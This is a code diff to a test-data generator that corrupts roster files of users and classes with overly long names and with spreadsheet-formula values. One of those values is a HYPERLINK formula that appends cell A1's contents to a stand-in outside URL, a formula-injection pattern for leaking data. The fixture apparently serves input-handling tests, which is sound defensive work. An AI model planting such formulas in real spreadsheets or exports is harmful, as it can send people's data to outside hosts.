@@ -72,8 +72,7 @@ def _emoji(folder: Path, mess: Mess) -> None:
 
 @KINDS.add("very-long-values", "A few names and class titles are 5,000 characters long.", ROWS)
 def _long(folder: Path, mess: Mess) -> None:
-    set_some(folder, "users", lambda row: {"familyName": (row["familyName"] + "-") * 5000}, 97)
-    set_some(folder, "users", lambda row: {"familyName": row["familyName"][:5000]}, 97)
+    set_some(folder, "users", lambda row: {"familyName": ((row["familyName"] + "-") * 5000)[:5000]}, 97)
     set_some(folder, "classes", lambda row: {"title": (row["title"] * 5000)[:5000]}, 97)
 
 
@@ -87,9 +86,7 @@ def _html(folder: Path, mess: Mess) -> None:
 @KINDS.add("formula-in-names", "A few names and class titles begin like a spreadsheet formula.", ROWS)
 def _formula(folder: Path, mess: Mess) -> None:
     link = '=HYPERLINK("http://example.com/?"&A1,"grades")'
-    set_some(
-        folder, "users", lambda row: {"familyName": link, "middleName": "+1+1", "givenName": "@SUM(A1:A9)"}
-    )
+    set_some(folder, "users", lambda row: {"familyName": link, "middleName": "+1+1", "givenName": "@SUM(A1:A9)"})
     set_some(folder, "classes", lambda row: {"title": "-2+3 " + row["title"]})
 
 
